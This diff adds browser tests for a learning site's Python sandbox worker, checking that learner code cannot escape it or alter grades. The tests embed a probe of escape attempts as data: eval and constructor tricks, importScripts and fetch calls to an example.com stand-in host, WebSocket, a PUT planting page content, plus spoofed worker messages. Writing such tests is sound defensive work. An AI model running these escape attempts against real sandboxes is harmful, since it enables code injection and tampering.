@@ -1,0 +1,234 @@
+"""Issue 21 in the page: learner code runs in the sandbox worker, reaches nothing of the
+origin, and bends no verdict. Each attack is joined to a wrong function and must not make
+it pass; after each, a correct run passes, a wrong run fails and the grader still grades.
+Careless code gets a verdict, and a sandbox that died is replaced within the time limit."""
+
+from __future__ import annotations
+
+import json
+import sys
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page
+
+from helpers import CHAPTERS, answer_derive, exercise, feedback, keep_to_origin, open_chapter, role, run_build, set_editor
+from workbook import bank
+
+sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "unit"))
+from test_attacks import ATTACKS as NATIVE  # noqa: E402  (the same programs, run natively there)
+
+EX = bank.get("0.5")
+GOOD = EX.solution
+WRONG = "def rotate_2d(x, y, theta):\n    return (x, y)\n"
+LONG = 90_000
+
+# Tries every way out of the sandbox and prints what happened to each, as JSON.
+PROBE = '''import json
+out = {}
+def attempt(name, action):
+    try:
+        action()
+        out[name] = "ran"
+    except BaseException as err:
+        out[name] = "blocked: " + type(err).__name__
+import js, pyodide_js
+PAGE = "../../chapters/01-transforms/"
+attempt("postMessage", lambda: js.postMessage(js.JSON.parse('{"id": 1, "type": "reply"}')))
+attempt("self.postMessage", lambda: js.self.postMessage(1))
+attempt("the prototype's postMessage", lambda: js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, 1))
+attempt("close", lambda: js.self.close())
+attempt("importScripts", lambda: js.importScripts("https://example.com/planted.js"))
+attempt("eval", lambda: js.eval("1 + 1"))
+attempt("Function", lambda: js.Function("return 1")())
+attempt("a function's constructor", lambda: js.Object.getPrototypeOf(js.setTimeout).constructor("return 1")())
+attempt("an async function's constructor", lambda: js.Object.getPrototypeOf(pyodide_js.loadPackage).constructor("return 1")())
+attempt("run_js", lambda: __import__("pyodide.code").code.run_js("1"))
+attempt("setTimeout with a string", lambda: js.setTimeout("self.planted = 1", 0))
+attempt("XMLHttpRequest", lambda: js.XMLHttpRequest.new())
+attempt("WebSocket", lambda: js.WebSocket.new("wss://example.com/"))
+attempt("EventSource", lambda: js.EventSource.new("https://example.com/"))
+attempt("Cache Storage", lambda: js.caches.open("planted"))
+attempt("Cache Storage on the prototype", lambda: js.WorkerGlobalScope.prototype.caches)
+attempt("IndexedDB", lambda: js.indexedDB.open("planted"))
+attempt("Worker", lambda: js.Worker.new("planted.js"))
+attempt("BroadcastChannel", lambda: js.BroadcastChannel.new("robotics-workbook"))
+attempt("Web Locks", lambda: js.navigator.locks.request("planted", js.setTimeout))
+attempt("the origin's file system", lambda: js.navigator.storage.getDirectory())
+attempt("the grading package", lambda: __import__("workbook"))
+js.fetch("https://example.com/planted?from=fetch")
+js.fetch(PAGE, js.JSON.parse('{"method": "PUT", "body": "PLANTED"}'))
+pyodide_js.loadPackage("robotics-workbook")
+print(json.dumps(out))
+'''
+ESCAPES = ["postMessage", "self.postMessage", "the prototype's postMessage", "close", "importScripts", "eval",
+           "Function", "a function's constructor", "an async function's constructor", "run_js", "setTimeout with a string",
+           "XMLHttpRequest", "WebSocket", "EventSource", "Cache Storage", "Cache Storage on the prototype", "IndexedDB",
+           "Worker", "BroadcastChannel", "Web Locks", "the origin's file system", "the grading package"]
+
+ATTACKS = {
+    **{name: (code if "def rotate_2d" in code else code + WRONG, "incorrect") for name, code in NATIVE.items()},
+    "every way out of the sandbox": (PROBE + WRONG, "incorrect"),
+    "replace js.self.onmessage": (
+        "import js\nfrom pyodide.ffi import create_proxy\n"
+        "js.self.onmessage = create_proxy(lambda event: js.self.postMessage(event.data))\n"
+        "js.self.addEventListener('message', create_proxy(lambda event: None))\n" + WRONG, "incorrect"),
+    "dispatch a fake request": (
+        "import js\nrequest = js.JSON.parse('{\"id\": 999, \"op\": \"run\", \"job\": \"{}\", \"code\": \"\"}')\n"
+        "js.self.dispatchEvent(js.MessageEvent.new('message', js.JSON.parse('{}')))\n" + WRONG, "incorrect"),
+    "exit()": ("exit()\n" + GOOD, "incorrect"),
+    "sys.exit()": ("import sys\ndef rotate_2d(x, y, theta):\n    sys.exit(0)\n", "incorrect"),
+    "raise KeyboardInterrupt": ("def rotate_2d(x, y, theta):\n    raise KeyboardInterrupt\n", "incorrect"),
+    "factorial(200)": ("import math\ndef rotate_2d(x, y, theta):\n    return (math.factorial(200), y)\n", "incorrect"),
+    # 2 ** 30 pointers: 4 GB on the page's 32-bit Python (2 ** 40 would not even fit an index there)
+    "out of memory": ("def rotate_2d(x, y, theta):\n    return [0] * (2 ** 30)\n", "incorrect"),
+}
+MESSAGES = {
+    "exit()": "Your code raised SystemExit while loading.",
+    "sys.exit()": "0 of 5 tests pass.",
+    "raise KeyboardInterrupt": "0 of 5 tests pass.",
+    "factorial(200)": "0 of 5 tests pass.",
+    "out of memory": "Your code ran out of memory on rotate_2d(3, 0, 1.570796); the sandbox was restarted. 0 of 5 tests pass.",
+    "mutate api.HANDLERS": "Your code raised ModuleNotFoundError while loading.",
+    "swap the reference's __code__": "Your code raised ModuleNotFoundError while loading.",
+}
+
+
+@pytest.fixture(scope="module")
+def lab(browser, site_url):
+    """One page of chapter 0 for every attack (each leaves the sandbox replaced, or as it was)."""
+    context = browser.new_context()
+    blocked = keep_to_origin(context, site_url)
+    requests: list[str] = []
+    context.on("request", lambda request: requests.append(request.url))
+    page = context.new_page()
+    page.set_default_timeout(LONG)
+    errors: list[str] = []
+    page.on("pageerror", lambda err: errors.append(str(err)))
+    open_chapter(page, site_url, 0)
+    yield page, requests
+    assert blocked == [] and errors == []
+    context.close()
+
+
+def printed(ex) -> dict:
+    text = ex.locator(role("stdout")).inner_text()
+    return json.loads(text.split("\n", 1)[1])
+
+
+def grades_as_before(page: Page) -> None:
+    ex = exercise(page, "0.5")
+    set_editor(page, ex, GOOD)
+    assert run_build(ex, LONG) == "correct"
+    set_editor(page, ex, WRONG)
+    assert run_build(ex, LONG) == "incorrect"
+    assert answer_derive(exercise(page, "0.1"), "3") == "correct"
+
+
+@pytest.mark.parametrize("name", sorted(ATTACKS))
+def test_an_attack_in_the_page_bends_no_verdict(lab, name):
+    page, requests = lab
+    code, state = ATTACKS[name]
+    ex = exercise(page, "0.5")
+    set_editor(page, ex, code)
+    seen = len(requests)
+    assert run_build(ex, LONG) == state, feedback(ex)
+    if name in MESSAGES:
+        assert feedback(ex) == MESSAGES[name]
+    if name == "every way out of the sandbox":
+        outcome = printed(ex)
+        assert {k: v.split(":")[0] for k, v in outcome.items()} == {k: "blocked" for k in ESCAPES}, outcome
+        made = requests[seen:]
+        assert not [url for url in made if "planted" in url or "robotics_workbook" in url or "example.com" in url], made
+    grades_as_before(page)
+
+
+def test_a_sandbox_that_died_is_replaced_and_the_run_goes_on(lab):
+    page, _ = lab
+    ex = exercise(page, "0.5")
+    set_editor(page, ex, GOOD)
+    assert run_build(ex, LONG) == "correct"
+    lost = page.evaluate("workbook.sandbox.lost || 0")
+    page.evaluate("workbook.sandbox.worker.terminate()")  # as if the browser had killed it: no message, no error
+    assert run_build(ex, LONG) == "correct"
+    assert page.evaluate("workbook.sandbox.lost") == lost + 1
+
+
+def test_attacks_change_no_stored_byte_and_plant_no_page(page, site_url):
+    """With the service worker serving the site, every attack runs once; nothing is solved, the
+    storage holds only the workbook's own record, the caches are as stored, and the page that
+    the probe tried to plant is served as built."""
+    open_chapter(page, site_url, 0)
+    page.wait_for_function("() => document.documentElement.dataset.workbookOffline === 'ready'", timeout=LONG)
+    page.reload()
+    open_chapter(page, site_url, 0)
+    target = site_url + CHAPTERS[1]
+    snapshot = """async (url) => {
+      const out = {};
+      for (const name of await caches.keys()) {
+        const cache = await caches.open(name);
+        out[name] = (await cache.keys()).length;
+        const hit = await cache.match(url);
+        if (hit) out[name + ' ' + url] = await hit.text();
+      }
+      return [out, Object.keys(localStorage).sort()];
+    }"""
+    before = page.evaluate(snapshot, target)
+    assert any(target in key for key in before[0]), "the page is stored"
+    ex = exercise(page, "0.5")
+    for name in sorted(ATTACKS):
+        set_editor(page, ex, ATTACKS[name][0])
+        assert run_build(ex, LONG) != "correct", name
+    after = page.evaluate(snapshot, target)
+    assert after[0] == before[0]  # every cache as it was stored
+    assert set(after[1]) - set(before[1]) == {k for k in after[1] if k.endswith(":progress")}  # the attempts only
+    (key,) = [k for k in after[1] if k.endswith(":progress")]
+    record = json.loads(page.evaluate("(key) => localStorage.getItem(key)", key))["exercises"]["0.5"]
+    assert record["attempts"] == len(ATTACKS) and not record.get("solved") and 0 not in (record.get("done") or [])
+    page.goto(target)
+    assert "PLANTED" not in page.content()
+    exercise(page, "1.1").wait_for()
+
+
+def test_the_sandbox_starts_only_where_there_is_build_code(page, site_url):
+    open_chapter(page, site_url, 1)  # no Build exercise: no sandbox, ever
+    page.evaluate("() => new Promise((resolve) => requestIdleCallback(resolve, {timeout: 2000}))")
+    assert page.evaluate("'sandbox' in window.workbook") is False
+    open_chapter(page, site_url, 0)  # a Build exercise: the sandbox starts once the page is idle, before any Run
+    page.wait_for_function("() => window.workbook.sandbox && window.workbook.sandbox.ready", timeout=LONG)
+    assert exercise(page, "0.5").get_attribute("data-state") == "unanswered"
+    stages = page.evaluate("workbook.sandbox.startStages")
+    assert 0 < stages["booted"] <= stages["ready"] and stages["wasmBytes"] > 1_000_000
+
+
+def test_runs_that_queue_up_are_sent_one_at_a_time(lab):
+    """A run longer than the acknowledgement wait, with another behind it: neither is taken for a lost sandbox."""
+    page, _ = lab
+    slow = ("import time\nstart = time.monotonic()\nwhile time.monotonic() - start < 6:\n    pass\n" + GOOD)
+    replies = page.evaluate("""async ([slow, good]) => {
+      const cases = await workbook.runtime.request({op: "cases", exercise: "0.5", code: good});
+      const box = workbook.sandbox, lost = box.lost || 0;
+      const run = (code) => box.request({op: "run", job: cases.value.job, code}, {limitMs: 30000});
+      const replies = await Promise.all([run(slow), run(good)]);
+      return {oks: replies.map((r) => r.ok), lost: (box.lost || 0) - lost};
+    }""", [slow, GOOD])
+    assert replies == {"oks": [True, True], "lost": 0}
+
+
+def test_a_sandbox_that_could_not_start_is_started_again(page, site_url):
+    failures = []
+
+    def once(route):
+        if not failures:
+            failures.append(route.request.url)
+            route.abort()
+        else:
+            route.continue_()
+    page.route("**/python_stdlib.sandbox.zip", once)
+    open_chapter(page, site_url, 0)  # the sandbox starts when the page is idle, and fails
+    page.wait_for_function("() => window.workbook.sandbox && window.workbook.sandbox.failure", timeout=LONG)
+    assert page.evaluate("document.documentElement.dataset.workbookRuntime") == "ready"  # the grader's state is its own
+    ex = exercise(page, "0.5")
+    set_editor(page, ex, GOOD)
+    assert run_build(ex, LONG) == "correct"  # the first Run starts a fresh one
+    assert len(failures) == 1
